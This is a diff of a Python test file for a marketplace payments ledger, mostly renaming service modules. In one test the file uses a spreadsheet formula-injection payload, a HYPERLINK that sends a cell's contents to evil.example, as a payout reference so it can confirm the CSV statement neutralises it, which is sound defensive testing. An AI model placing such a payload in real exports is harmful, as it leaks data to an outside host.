@@ -15,9 +15,9 @@ from marketplace.accounts.models import Role
 from marketplace.config import _commission_rate
 from marketplace.extensions import db
 from marketplace.notices.models import Notice
-from marketplace.orders import services as orders
+from marketplace.orders import fulfilment
 from marketplace.orders.models import Shipment
-from marketplace.payments import ledger, services
+from marketplace.payments import ledger, payouts, refunds
 from marketplace.payments.models import LedgerEntry, LedgerKind, Payout, Refund, RefundPart, RefundStatus
 from tests.conftest import empty_database
 from tests.factories import make_cooperative, make_cooperative_staff, make_product, make_user, sign_in_as
@@ -27,18 +27,18 @@ from tests.payments.fake_stripe import make_event, post_event
 
 
 def deliver(shipment):
-    orders.confirm_shipment(shipment, None)
-    orders.ship_shipment(shipment, None, "own")
-    orders.deliver_shipment(shipment, None)
+    fulfilment.confirm_shipment(shipment, None)
+    fulfilment.ship_shipment(shipment, None, "own")
+    fulfilment.deliver_shipment(shipment, None)
 
 
 def test_a_cash_shipment_is_credited_when_delivered_not_before(shop):
     order = place((shop["candy"], 2))
     shipment = order.shipments[0]
-    orders.confirm_shipment(shipment, None)
-    orders.ship_shipment(shipment, None, "own")
+    fulfilment.confirm_shipment(shipment, None)
+    fulfilment.ship_shipment(shipment, None, "own")
     assert entries() == []
-    orders.deliver_shipment(shipment, None)
+    fulfilment.deliver_shipment(shipment, None)
     assert entries(shop["coop_a"]) == [("sale_credit", 170000), ("commission_debit", -8500), ("shipping_credit", 30000)]
     assert ledger.balance(shop["coop_a"].id) == 191500
 
@@ -154,7 +154,7 @@ def staff_client(app, owed):
 
 
 def test_the_portal_shows_the_balance_entries_and_payouts(staff_client, owed, shop, count_queries):
-    services.record_payout(owed, 100000, "ACB-1", clock.today(), None)
+    payouts.record_payout(owed, 100000, "ACB-1", clock.today(), None)
     with count_queries() as few:
         html = staff_client.get("/portal/ledger?lang=en").get_data(as_text=True)
     assert "The marketplace owes you" in html and "₫91,500" in html
@@ -180,7 +180,7 @@ def test_the_statement_is_a_csv_with_opening_running_and_closing_balances(staff_
     db.session.execute(sa.update(LedgerEntry).values(created_at=last_month))  # the first sale: before the period
     db.session.commit()
     deliver(place((shop["candy"], 1)).shipments[0])  # 85.000 − 4.250 + 30.000
-    services.record_payout(owed, 200000, "VCB-9", clock.today(), None)
+    payouts.record_payout(owed, 200000, "VCB-9", clock.today(), None)
     today = clock.today()
     response = staff_client.get(f"/portal/ledger/statement?start={(today - timedelta(days=7)).isoformat()}"
                                 f"&end={today.isoformat()}")
@@ -262,7 +262,7 @@ def test_balances_are_sums_of_entries_and_nothing_is_counted_twice(app, client, 
                 deliver(shipment)
         elif kind == "dashboard_refund":
             order = card[i]
-            if services.money_of([orders.get_order(order.number)])[0].primary is None:
+            if refunds.money_of([fulfilment.get_order(order.number)])[0].primary is None:
                 continue
             refunded[order.id] = min(order.total_vnd, refunded[order.id] + order.total_vnd * operation[2] // 100)
             charge = {"id": f"ch_{order.id}", "object": "charge", "payment_intent": f"pi_{sessions[order.id]}",
@@ -270,18 +270,18 @@ def test_balances_are_sums_of_entries_and_nothing_is_counted_twice(app, client, 
             sent.append(make_event("charge.refunded", charge))
             post_event(client, sent[-1])
         elif kind == "refund_part":
-            order = orders.get_order((card if operation[2] else cash)[i].number)
+            order = fulfilment.get_order((card if operation[2] else cash)[i].number)
             try:
-                made = services.refund(order, f"shipment:{order.shipments[0].id}", True, "Broken", None)
-            except services.RefundRefused:
+                made = refunds.refund(order, f"shipment:{order.shipments[0].id}", True, "Broken", None)
+            except refunds.RefundRefused:
                 continue
             if order.id in refunded:  # Stripe's charge counts every refund, those made here too
                 refunded[order.id] += made.amount_vnd
         elif kind == "payout":
             try:
-                services.record_payout(db.session.get(type(coop_a), coop_a.id), i, f"ref-{len(sent)}-{i}",
+                payouts.record_payout(db.session.get(type(coop_a), coop_a.id), i, f"ref-{len(sent)}-{i}",
                                        clock.today(), None)
-            except services.PayoutRefused:
+            except payouts.PayoutRefused:
                 continue
         elif kind == "replay" and sent:
             before = balances()
@@ -293,9 +293,9 @@ def test_balances_are_sums_of_entries_and_nothing_is_counted_twice(app, client, 
     for cooperative in (coop_a, coop_b):
         mine = [e for e in rows if e.cooperative_id == cooperative.id]
         assert ledger.balance(cooperative.id) == sum(e.amount_vnd for e in mine)
-        payouts = db.session.scalar(sa.select(sa.func.coalesce(sa.func.sum(Payout.amount_vnd), 0))
+        paid_out = db.session.scalar(sa.select(sa.func.coalesce(sa.func.sum(Payout.amount_vnd), 0))
                                     .where(Payout.cooperative_id == cooperative.id))
-        assert -sum(e.amount_vnd for e in mine if e.kind == LedgerKind.PAYOUT_DEBIT) == payouts
+        assert -sum(e.amount_vnd for e in mine if e.kind == LedgerKind.PAYOUT_DEBIT) == paid_out
     for shipment in db.session.scalars(sa.select(Shipment)).all():
         own = [e for e in rows if e.shipment_id == shipment.id]
         credits = [e for e in own if e.kind == LedgerKind.SALE_CREDIT]
@@ -314,7 +314,7 @@ def test_balances_are_sums_of_entries_and_nothing_is_counted_twice(app, client, 
         parts = db.session.scalar(sa.select(sa.func.sum(RefundPart.amount_vnd)).where(RefundPart.refund_id == refund.id))
         assert parts == refund.amount_vnd, "a refund's parts do not add up"
     for order in card:
-        money = services.money_of([orders.get_order(order.number)])[0]
+        money = refunds.money_of([fulfilment.get_order(order.number)])[0]
         assert money.refunded <= sum(p.amount_vnd for p in money.paid_payments)
 
 
@@ -322,7 +322,7 @@ SHIPMENT_KINDS = (LedgerKind.SALE_CREDIT, LedgerKind.COMMISSION_DEBIT, LedgerKin
 
 
 def test_the_statement_neutralises_a_formula_in_a_payout_reference_and_keeps_negative_amounts(staff_client, owed):
-    services.record_payout(owed, 100000, '=HYPERLINK("http://evil.example/?"&E2,"VCB")', clock.today(), None)
+    payouts.record_payout(owed, 100000, '=HYPERLINK("http://evil.example/?"&E2,"VCB")', clock.today(), None)
     today = clock.today()
     response = staff_client.get(f"/portal/ledger/statement?start={today.isoformat()}&end={today.isoformat()}")
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
